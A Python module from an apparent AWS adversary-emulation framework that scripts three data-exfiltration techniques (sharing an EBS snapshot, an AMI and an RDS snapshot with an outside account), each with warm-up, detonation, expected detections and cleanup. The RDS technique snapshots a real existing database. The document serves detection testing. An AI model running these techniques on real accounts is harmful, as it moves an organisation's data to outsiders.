"""Exfiltration by sharing: an EBS snapshot, an AMI and an RDS snapshot shared with an account
outside the organization. The shared copies are decoys the warm-up makes (an empty 1 GiB volume's
snapshot, an image registered from it, a snapshot of an existing database)."""

from __future__ import annotations

from typing import Any

from secpillar.gameday.resources import PRESENT, presence
from secpillar.gameday.technique import OUTSIDE_ACCOUNT, Context, Skip, Technique, register, unless_gone

EBS_PERMISSIONS: tuple[str, ...] = (
    "ec2:DescribeAvailabilityZones",
    "ec2:CreateVolume",
    "ec2:CreateSnapshot",
    "ec2:DescribeSnapshots",
    "ec2:DeleteSnapshot",
    "ec2:DeleteVolume",
    "ec2:CreateTags",
)


def _tags(ctx: Context, kind: str) -> list[dict[str, Any]]:
    return [{"ResourceType": kind, "Tags": [{"Key": "Name", "Value": ctx.state["name"]}]}]


def _make_snapshot(ctx: Context) -> None:
    ec2 = ctx.client("ec2")
    zone = ec2.describe_availability_zones()["AvailabilityZones"][0]["ZoneName"]
    vol = ec2.create_volume(AvailabilityZone=zone, Size=1, TagSpecifications=_tags(ctx, "volume"))
    ctx.state["volume"] = str(vol["VolumeId"])
    snap = ec2.create_snapshot(
        VolumeId=ctx.state["volume"],
        Description="secpillar game day",
        TagSpecifications=_tags(ctx, "snapshot"),
    )
    ctx.state["snapshot"] = str(snap["SnapshotId"])
    ec2.get_waiter("snapshot_completed").wait(
        SnapshotIds=[ctx.state["snapshot"]], WaiterConfig={"Delay": 5, "MaxAttempts": 60}
    )


def _ebs_state(ctx: Context) -> dict[str, Any]:
    ec2 = ctx.client("ec2")
    tag = [{"Name": "tag:Name", "Values": [ctx.state["name"]]}]
    return {
        f"volumes named {ctx.state['name']}": len(ec2.describe_volumes(Filters=tag)["Volumes"]),
        f"snapshots named {ctx.state['name']}": len(
            ec2.describe_snapshots(OwnerIds=["self"], Filters=tag)["Snapshots"]
        ),
    }


def _drop_snapshot(ctx: Context) -> None:
    ec2 = ctx.client("ec2")
    for key, call, arg, codes in (
        ("snapshot", ec2.delete_snapshot, "SnapshotId", ("InvalidSnapshot.NotFound",)),
        ("volume", ec2.delete_volume, "VolumeId", ("InvalidVolume.NotFound",)),
    ):
        if ctx.state.get(key):
            with unless_gone(*codes):
                call(**{arg: ctx.state[key]})


@register
class EbsSnapshotShare(Technique):
    id = "aws.exfiltration.ebs-snapshot-share"
    title = "Share an EBS snapshot with an outside account"
    attack = "T1537"
    description = f"ModifySnapshotAttribute adding createVolumePermission for account {OUTSIDE_ACCOUNT}."
    events = ("ModifySnapshotAttribute",)
    detections = ("ct.ebs-snapshot-shared",)
    permissions = (*EBS_PERMISSIONS, "ec2:ModifySnapshotAttribute")

    def select(self, ctx: Context) -> None:
        ctx.state["name"] = ctx.name("ebs")

    def probe(self, ctx: Context) -> dict[str, Any]:
        return _ebs_state(ctx)

    def warm_up(self, ctx: Context) -> None:
        _make_snapshot(ctx)

    def detonate(self, ctx: Context) -> None:
        ctx.client("ec2").modify_snapshot_attribute(
            SnapshotId=ctx.state["snapshot"],
            Attribute="createVolumePermission",
            OperationType="add",
            UserIds=[OUTSIDE_ACCOUNT],
        )

    def cleanup(self, ctx: Context) -> None:
        _drop_snapshot(ctx)


@register
class AmiShare(Technique):
    id = "aws.exfiltration.ami-share"
    title = "Share an AMI with an outside account"
    attack = "T1537"
    description = f"ModifyImageAttribute adding a launchPermission for account {OUTSIDE_ACCOUNT}."
    events = ("ModifyImageAttribute",)
    detections = ("ct.ami-shared",)
    permissions = (
        *EBS_PERMISSIONS,
        "ec2:RegisterImage",
        "ec2:DescribeImages",
        "ec2:ModifyImageAttribute",
        "ec2:DeregisterImage",
    )

    def select(self, ctx: Context) -> None:
        ctx.state["name"] = ctx.name("ami")

    def _images(self, ctx: Context) -> list[dict[str, Any]]:
        return list(
            ctx.client("ec2").describe_images(
                Owners=["self"], Filters=[{"Name": "name", "Values": [ctx.state["name"]]}]
            )["Images"]
        )

    def probe(self, ctx: Context) -> dict[str, Any]:
        return {**_ebs_state(ctx), f"images named {ctx.state['name']}": len(self._images(ctx))}

    def warm_up(self, ctx: Context) -> None:
        _make_snapshot(ctx)
        image = ctx.client("ec2").register_image(
            Name=ctx.state["name"],
            Architecture="x86_64",
            VirtualizationType="hvm",
            RootDeviceName="/dev/xvda",
            BlockDeviceMappings=[{"DeviceName": "/dev/xvda", "Ebs": {"SnapshotId": ctx.state["snapshot"]}}],
        )
        ctx.state["image"] = str(image["ImageId"])

    def detonate(self, ctx: Context) -> None:
        ctx.client("ec2").modify_image_attribute(
            ImageId=ctx.state["image"], LaunchPermission={"Add": [{"UserId": OUTSIDE_ACCOUNT}]}
        )

    def cleanup(self, ctx: Context) -> None:
        ec2 = ctx.client("ec2")
        for image in self._images(ctx):
            # Deregistering an image keeps its snapshots: delete the ones it was made of too.
            snaps = {
                m["Ebs"]["SnapshotId"]
                for m in image.get("BlockDeviceMappings", [])
                if m.get("Ebs", {}).get("SnapshotId")
            }
            ec2.deregister_image(ImageId=image["ImageId"])
            for snap in sorted(snaps - {ctx.state.get("snapshot")}):
                with unless_gone("InvalidSnapshot.NotFound"):
                    ec2.delete_snapshot(SnapshotId=snap)
        _drop_snapshot(ctx)


@register
class RdsSnapshotShare(Technique):
    id = "aws.exfiltration.rds-snapshot-share"
    title = "Share an RDS snapshot with an outside account"
    attack = "T1537"
    description = (
        f"ModifyDBSnapshotAttribute adding account {OUTSIDE_ACCOUNT} to the 'restore' attribute of a "
        "snapshot of one of the account's databases."
    )
    events = ("ModifyDBSnapshotAttribute",)
    detections = ("ct.rds-snapshot-shared",)
    permissions = (
        "rds:DescribeDBInstances",
        "rds:CreateDBSnapshot",
        "rds:DescribeDBSnapshots",
        "rds:ModifyDBSnapshotAttribute",
        "rds:DeleteDBSnapshot",
        "rds:AddTagsToResource",
    )

    def select(self, ctx: Context) -> None:
        dbs = ctx.client("rds").describe_db_instances()["DBInstances"]
        ready = sorted(d["DBInstanceIdentifier"] for d in dbs if d.get("DBInstanceStatus") == "available")
        if not ready:
            raise Skip(f"no available RDS database instance in {ctx.region} to snapshot")
        ctx.state["db"] = ready[0]
        ctx.state["snapshot"] = ctx.name("rds")

    def _state(self, ctx: Context) -> str:
        rds = ctx.client("rds")
        return presence(
            lambda: rds.describe_db_snapshots(DBSnapshotIdentifier=ctx.state["snapshot"]),
            "DBSnapshotNotFound",
            "DBSnapshotNotFoundFault",
        )

    def probe(self, ctx: Context) -> dict[str, Any]:
        return {f"DB snapshot {ctx.state['snapshot']}": self._state(ctx)}

    def warm_up(self, ctx: Context) -> None:
        rds = ctx.client("rds")
        rds.create_db_snapshot(
            DBInstanceIdentifier=ctx.state["db"], DBSnapshotIdentifier=ctx.state["snapshot"]
        )
        rds.get_waiter("db_snapshot_available").wait(
            DBSnapshotIdentifier=ctx.state["snapshot"], WaiterConfig={"Delay": 10, "MaxAttempts": 90}
        )

    def detonate(self, ctx: Context) -> None:
        ctx.client("rds").modify_db_snapshot_attribute(
            DBSnapshotIdentifier=ctx.state["snapshot"], AttributeName="restore", ValuesToAdd=[OUTSIDE_ACCOUNT]
        )

    def cleanup(self, ctx: Context) -> None:
        if self._state(ctx) == PRESENT:
            ctx.client("rds").delete_db_snapshot(DBSnapshotIdentifier=ctx.state["snapshot"])
